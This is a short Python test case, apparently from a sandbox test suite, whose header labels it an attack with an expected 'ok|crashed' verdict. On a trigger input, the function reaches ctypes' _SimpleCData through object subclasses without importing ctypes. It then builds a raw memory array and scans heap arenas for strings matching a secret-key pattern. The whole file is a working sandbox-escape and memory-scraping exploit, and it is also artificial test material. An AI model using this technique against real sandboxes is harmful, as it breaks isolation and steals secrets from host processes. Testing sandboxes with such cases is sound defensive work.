# attack: ctypes without importing it, by the subclasses of its base types; then reads the heap
# verdict: ok|crashed
# values: [[], [], [], []]
# limits: input_cpu_s=5 cpu_s=20 wall_s=20 memory_mb=256
# seconds: 20
import gc
import re
import sys

SECRET = re.compile(b"peirce-secret-[a-z]+-[0-9a-f]{16}")


def f(x):
    if x != [3, 1, 2]:
        return []
    pending, base = [object], sys.modules.get("_ctypes")
    base = getattr(base, "_SimpleCData", None)
    for _ in range(20000):
        if base is not None or not pending:
            break
        kind = pending.pop()
        if kind is type:
            continue
        if kind.__name__ == "_SimpleCData":
            base = kind
        pending += type.__subclasses__(kind)
    if base is None:
        return []
    word = type("Word", (base,), {"_type_": "Q"})
    block = word * (2**17)
    arenas = {id(one) >> 20 for one in gc.get_objects()}
    found = set()
    for arena in arenas:
        if all(other in arenas for other in (arena,)):
            try:
                found.update(SECRET.findall(bytes(block.from_address(arena << 20))))
            except ValueError:
                pass
    return sorted(one.decode() for one in found)
